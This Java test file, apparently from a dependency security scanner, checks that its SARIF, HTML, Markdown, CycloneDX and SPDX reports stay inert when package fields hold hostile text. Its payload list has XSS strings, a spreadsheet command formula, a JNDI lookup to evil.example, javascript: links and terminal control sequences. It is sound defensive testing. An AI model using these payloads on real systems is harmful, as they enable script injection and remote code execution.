package dev.packagefast.cli.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.packagefast.security.DeniedPackage;
import dev.packagefast.security.ScanProblem;
import dev.packagefast.security.ScanReport;
import dev.packagefast.security.policy.Policy;
import dev.packagefast.security.policy.PolicyFileException;
import dev.packagefast.security.policy.PolicyNote;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.function.Consumer;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.cyclonedx.Version;
import org.cyclonedx.parsers.JsonParser;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Every nasty text in every place of every format: what comes out is still a report of that format, and inert. */
class HostileTextTest {
    private static final String MARK = "zqx";

    private static final List<String> NASTY = List.of(
            "\u001b[31mred\u001b]0;title\u0007" + MARK,
            "\u009b31m\u0085" + MARK,
            "\u202egpj.exe\u2066" + MARK,
            "a\r\nb\u2028c\u0000" + MARK,
            "a\u200bb\u00adc\ufeffd\ue000e\udb40\udc41" + MARK,
            "</script><script>alert('" + MARK + "')</script>",
            "<!--<script>" + MARK,
            "<img src=x onerror=alert(1)>" + MARK,
            "\" onmouseover=\"alert(1)\" '" + MARK,
            "&lt;script&gt;&#x41;" + MARK,
            "]]>" + MARK + "<![CDATA[",
            "[click](javascript:alert(1)) " + MARK,
            "![x](https://evil.example/" + MARK + ".png)",
            "| " + MARK + " | cell |\n|---|",
            "`code` ``` " + MARK,
            "@octocat #1 GH-1 !2 " + MARK,
            "https://evil.example/" + MARK + " www.evil.example",
            "<details open>" + MARK + "</details>",
            "=cmd|'/c calc'!A1" + MARK,
            "{0} {{" + MARK + "}} ${jndi:ldap://evil.example}",
            "%0d%0a%3Cscript%3E" + MARK,
            "javascript:alert(1)//" + MARK,
            "-1+1|'" + MARK,
            "\t@SUM(1)" + MARK,
            "{{constructor.constructor('alert(1)')()}}<%= 1 %>" + MARK);

    private static final List<String> PLACES = List.of(
            "name",
            "version",
            "path",
            "project",
            "summary",
            "id",
            "alias",
            "link",
            "problem",
            "exception",
            "denied",
            "note");

    private static final Pattern INVISIBLE =
            Pattern.compile("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}\\p{Co}\\p{Cs}\\p{Cn}&&[^\\t\\n]]");

    @TempDir
    Path folder;

    private record Format(String name, ScanReportFormat writer, Consumer<String> check) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static List<Format> formats() {
        return List.of(
                new Format("sarif", new SarifReport(), HostileTextTest::sarif),
                new Format("html", new HtmlReport(), HostileTextTest::html),
                new Format("markdown", new MarkdownReport(), HostileTextTest::markdown),
                new Format("cyclonedx", new CycloneDxReport(), HostileTextTest::cycloneDx),
                new Format("spdx", new SpdxReport(), HostileTextTest::spdx));
    }

    static Stream<Arguments> table() {
        return formats().stream()
                .flatMap(format -> PLACES.stream().map(place -> Arguments.of(format.name, place, format)));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("table")
    void isInert(String formatName, String place, Object format) throws IOException {
        Format tested = (Format) format;
        int number = 0;
        for (String nasty : NASTY) {
            Path own = folder.resolve(String.valueOf(number++));
            String text = written(own, place, nasty, tested.writer);
            assertThat(INVISIBLE.matcher(text).find())
                    .as("%s with %s as %s", tested, nasty, place)
                    .isFalse();
            tested.check.accept(text);
        }
    }

    private static String written(Path folder, String place, String nasty, ScanReportFormat format) throws IOException {
        // A lockfile may not hold controls in a name; the reader tells of them as problems, which are tried too.
        String clean = INVISIBLE.matcher(nasty).replaceAll("").replace("\n", "");
        String name = place.equals("name") ? clean.replace("node_modules", "") : "old";
        // A file system takes every character but these two.
        String file = place.equals("path") ? nasty.replace("/", "_").replace("\0", "_") : "app";
        SampleScan sample = new SampleScan(folder, file, place.equals("project") ? clean : "app");
        String version = place.equals("version") ? "1.0.0-" + clean : "1.0.0";
        sample.holds(name, version);
        ObjectNode record = sample.advisory("GHSA-aaaa", name, "HIGH", "1.2.0");
        if (place.equals("version")) {
            record.withArray("affected")
                    .forEach(affected ->
                            ((ObjectNode) affected).putArray("versions").add(version));
        }
        switch (place) {
            case "summary" -> record.put("summary", nasty).put("details", nasty);
            case "id" -> record.put("id", "X-" + clean);
            case "alias" -> record.putArray("aliases").add(nasty);
            case "link" -> {
                record.putArray("references")
                        .addObject()
                        .put("type", "ADVISORY")
                        .put("url", nasty);
                record.withArray("references").addObject().put("type", "WEB").put("url", "https://fine.example/a");
            }
            default -> {
                // Set above or below.
            }
        }
        sample.knows(record);
        ScanReport report = sample.report();
        switch (place) {
            case "exception" -> report = excepted(folder, clean, report);
            case "denied" -> report = report.withDenied(List.of(new DeniedPackage(nasty, nasty, nasty)));
            case "note" -> report = report.withNote(new PolicyNote(PolicyNote.Kind.EXPIRED, nasty, nasty, nasty));
            default -> {
                // Set above or below.
            }
        }
        if (place.equals("problem")) {
            report = new ScanReport(
                    report.files(),
                    report.packages(),
                    report.ecosystems(),
                    report.vulnerable(),
                    List.of(new ScanProblem(nasty, nasty, nasty)),
                    report.inventories());
        }
        return sample.written(format, report);
    }

    private static ScanReport excepted(Path folder, String nasty, ScanReport report) throws IOException {
        // TOML's basic strings have the escapes of JSON.
        String text = SampleScan.JSON.writeValueAsString(nasty);
        Path policy = Files.writeString(folder.resolve("pfsec.toml"), """
                [[exception]]
                id = "GHSA-aaaa"
                package = "old"
                expires = 2999-12-31
                reason = %s
                author = %s
                """.replace("%s", text));
        try {
            ScanReport excepted = report.under(Policy.read(policy), SampleScan.NOW);
            assertThat(excepted.excepted()).hasSize(1);
            return excepted;
        } catch (PolicyFileException refused) {
            throw new AssertionError(text, refused);
        }
    }

    private static JsonNode json(String text) {
        try {
            return SampleScan.JSON.readTree(text);
        } catch (IOException notJson) {
            throw new AssertionError(text, notJson);
        }
    }

    private static void sarif(String text) {
        try {
            assertThat(SarifReportTest.faults(text)).isEmpty();
        } catch (IOException failed) {
            throw new AssertionError(failed);
        }
        assertThat(text.chars().allMatch(c -> c < 0x7f)).isTrue();
        JsonNode run = json(text).path("runs").path(0);
        for (JsonNode message : run.findValues("text")) {
            // §3.11.6: a link is [text](target) with brackets that no backslash precedes; §3.11.5: {0} is a
            // placeholder.
            assertThat(message.asText().replaceAll("\\\\[\\\\\\[\\]]", "")).doesNotContain("[", "]");
            assertThat(message.asText().replace("{{", "").replace("}}", "")).doesNotContain("{0}");
        }
        for (JsonNode help : run.findValues("markdown")) {
            markdown(help.asText());
        }
        for (JsonNode uri : run.findValues("helpUri")) {
            assertThat(uri.asText()).matches("https?://[^\\s<>\"'()\\[\\]{}|`\\\\]+");
        }
        for (JsonNode uri : run.findValues("uri")) {
            assertThat(uri.asText()).matches("[A-Za-z0-9%._~/@+,=-]*|file:///[A-Za-z0-9%._~/@+,=-]*");
        }
    }

    private static final Pattern DATA = Pattern.compile(
            "<script type=\"application/json\" id=\"data\">(.*?)</script>\n<script>(.*?)</script>\n</body>\n</html>\n",
            Pattern.DOTALL);

    private static void html(String text) {
        var parts = DATA.matcher(text);
        assertThat(parts.find()).isTrue();
        assertThat(parts.end()).isEqualTo(text.length());
        // Before the data stands what is the same in every report; in the data nothing that a browser reads as markup.
        assertThat(text.substring(0, parts.start())).doesNotContain(MARK);
        assertThat(parts.group(1)).doesNotContain("<", ">", "&", "'");
        assertThat(parts.group(1).chars().allMatch(c -> c < 0x7f)).isTrue();
        assertThat(parts.group(2)).doesNotContain(MARK);
        for (JsonNode links : json(parts.group(1)).findValues("links")) {
            for (JsonNode link : links) {
                assertThat(link.path(1).asText()).matches("https?://[^\\s<>\"'()\\[\\]{}|`\\\\]+");
            }
        }
        json(parts.group(1))
                .findValuesAsText("name")
                .forEach(name -> assertThat(INVISIBLE.matcher(name).find()).isFalse());
    }

    private static final Pattern CODE = Pattern.compile("(?<!`)(`+)(?!`)(.*?[^`])\\1(?!`)");
    private static final Pattern OUR_LINK = Pattern.compile("\\[CODE\\]\\(https?://[^\\s()<>|`\\[\\]]+\\)");
    private static final Pattern OUR_AUTOLINK = Pattern.compile("<https?://[^\\s<>]+>");

    private static void markdown(String text) {
        for (String line : text.split("\n", -1)) {
            String rest = CODE.matcher(line).replaceAll("CODE");
            rest = OUR_LINK.matcher(rest).replaceAll("LINK");
            rest = OUR_AUTOLINK.matcher(rest).replaceAll("LINK");
            for (String ours : List.of(
                    "<details><summary>Details</summary>",
                    "<details><summary>Set aside by the policy: 1 finding</summary>",
                    "<details><summary>About the policy: 1 note</summary>",
                    "</details>",
                    "<sub>",
                    "</sub>")) {
                rest = rest.replace(ours, "");
            }
            rest = rest.replace("**", "").replaceAll("&#\\d+;", "");
            assertThat(rest).as(line).doesNotContain("<", ">", "[", "]", "`", "@", "www.", "://", "!", "\\", "$");
            if (line.startsWith("|")) {
                assertThat(rest.chars().filter(c -> c == '|').count()).as(line).isEqualTo(5);
            } else {
                assertThat(rest).as(line).doesNotContain("|");
            }
        }
    }

    private static void cycloneDx(String text) {
        try {
            assertThat(new JsonParser().validate(text.getBytes(StandardCharsets.UTF_8), Version.VERSION_16))
                    .isEmpty();
        } catch (IOException failed) {
            throw new AssertionError(failed);
        }
        for (JsonNode url : json(text).findValues("url")) {
            assertThat(url.asText()).startsWith("http").doesNotContain(" ", "<", "\"", "(");
        }
    }

    private static void spdx(String text) {
        try {
            assertThat(SpdxReportTest.faults(text)).isEmpty();
        } catch (Exception failed) {
            throw new AssertionError(failed);
        }
    }
}
